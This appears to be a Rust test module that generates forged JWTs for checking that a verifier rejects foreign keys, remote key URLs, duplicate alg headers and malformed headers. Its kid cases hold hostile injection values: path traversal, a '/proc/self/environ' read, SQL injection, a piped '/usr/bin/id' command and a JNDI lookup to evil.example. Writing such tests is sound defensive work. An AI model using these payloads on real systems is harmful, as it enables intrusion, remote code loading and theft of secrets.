//! Tokens of other keys, and with headers that nothing here may follow.

use crate::forge::*;
use base64::prelude::{BASE64_STANDARD, Engine as _};
use serde_json::{Value, json};

pub fn other_keys() -> Vec<Case> {
    let mut cases = Vec::new();
    let (own, strange) = (&KEYS.rsa, &KEYS.strange_rsa);
    let claims = good_claims().to_string();
    cases.push(case("another key under our kid", signed(strange, good_header(own).to_string(), &claims)));
    cases.push(case(
        "another key under its own kid",
        signed(strange, good_header(strange).to_string(), &claims),
    ));
    let strange_ed = signed(&KEYS.strange_ed, good_header(&KEYS.ed).to_string(), &claims);
    cases.push(case("another Ed25519 key under our kid", strange_ed));
    let kids = [
        ("traversal", "../../../../../../dev/null".to_owned()),
        ("absolute path", "/proc/self/environ".into()),
        ("SQL", "x' UNION SELECT 'secret' -- ".into()),
        ("SQL or", "' OR '1'='1".into()),
        ("command", "key|/usr/bin/id".into()),
        ("template", "${jndi:ldap://evil.example/a}".into()),
        ("URL", "https://evil.example/jwks.json".into()),
        ("unknown", "AAAAAAAAAAAAAAAA".into()),
        ("empty", String::new()),
        ("prefix of ours", own.kid()[..15].into()),
        ("ours and more", format!("{}A", own.kid())),
        ("ours and a NUL", format!("{}\0", own.kid())),
        ("ours and a space", format!("{} ", own.kid())),
        (
            "ours in other case",
            own.kid()
                .chars()
                .map(|c| if c.is_lowercase() { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
                .collect(),
        ),
        ("long", "k".repeat(2_000)),
    ];
    cases.extend(kids.map(|(name, kid)| case(format!("kid: {name}"), header("kid", kid))));
    cases.push(case("kid missing", with_header(|h| drop(h.remove("kid")))));
    cases.push(case("kid null", header("kid", Value::Null)));
    cases.push(case("kid a number", header("kid", 0)));
    cases.push(case("kid a list", header("kid", json!([own.kid()]))));

    // The token brings or names the stranger's key, signed by the stranger.
    let brought = [
        ("jwk", strange.jwk()),
        ("jku", json!("https://evil.example/jwks.json")),
        ("x5u", json!("https://evil.example/cert.pem")),
        ("x5c", json!([BASE64_STANDARD.encode("a certificate")])),
        ("x5t", json!("AAAA")),
        ("x5t#S256", json!("AAAA")),
    ];
    for (name, value) in brought {
        for named in [own, strange] {
            let mut head = good_header(named);
            head[name] = value.clone();
            let whose = if named.kid() == own.kid() { "our" } else { "its own" };
            cases.push(case(
                format!("{name}, another key, {whose} kid"),
                signed(strange, head.to_string(), &claims),
            ));
        }
        // Even signed by us: nothing here may read such a header.
        cases.push(case(format!("{name}, our key"), header(name, value)));
    }
    cases
}

pub fn headers() -> Vec<Case> {
    let key = &KEYS.rsa;
    let (alg, kid) = (key.algorithm().as_str(), key.kid());
    let raw = |header: String| signed(key, header, good_claims().to_string());
    vec![
        case("crit", header("crit", json!(["exp"]))),
        case("crit empty", header("crit", json!([]))),
        case(
            "crit b64, b64 false",
            with_header(|h| {
                h.insert("crit".into(), json!(["b64"]));
                h.insert("b64".into(), false.into());
            }),
        ),
        case("b64 true", header("b64", true)),
        case("zip", header("zip", "DEF")),
        case("cty", header("cty", "JWT")),
        case("enc", header("enc", "A128GCM")),
        case("unknown header", header("x", 1)),
        case("typ of an access token", header("typ", "at+jwt")),
        case("typ of a refresh token", header("typ", "refresh+jwt")),
        case("typ empty", header("typ", "")),
        case("typ null", header("typ", Value::Null)),
        case("typ a number", header("typ", 1)),
        case("typ with a space", header("typ", "JWT ")),
        case("alg twice", raw(format!(r#"{{"alg":"{alg}","alg":"{alg}","typ":"JWT","kid":"{kid}"}}"#))),
        case(
            "alg twice, first none",
            raw(format!(r#"{{"alg":"none","alg":"{alg}","typ":"JWT","kid":"{kid}"}}"#)),
        ),
        case(
            "alg twice, once escaped",
            raw(format!(r#"{{"alg":"{alg}","\u0061lg":"none","typ":"JWT","kid":"{kid}"}}"#)),
        ),
        case("kid twice", raw(format!(r#"{{"alg":"{alg}","kid":"{kid}","typ":"JWT","kid":"{kid}"}}"#))),
        case("header is a list", raw(json!([alg, "JWT", kid]).to_string())),
        case("header is text", raw(json!("JWT").to_string())),
        case("header is null", raw("null".into())),
        case("header is empty", raw(String::new())),
        case("header and more", raw(format!("{}{{}}", good_header(key)))),
        case("header cut", raw(format!(r#"{{"alg":"{alg}","typ":"JWT","kid":"{kid}""#))),
        case(
            "header not UTF-8",
            signed(key, b"{\"alg\":\"RS256\",\"typ\":\"\xff\"}", good_claims().to_string()),
        ),
        case("header with a byte order mark", raw(format!("\u{feff}{}", good_header(key)))),
    ]
}
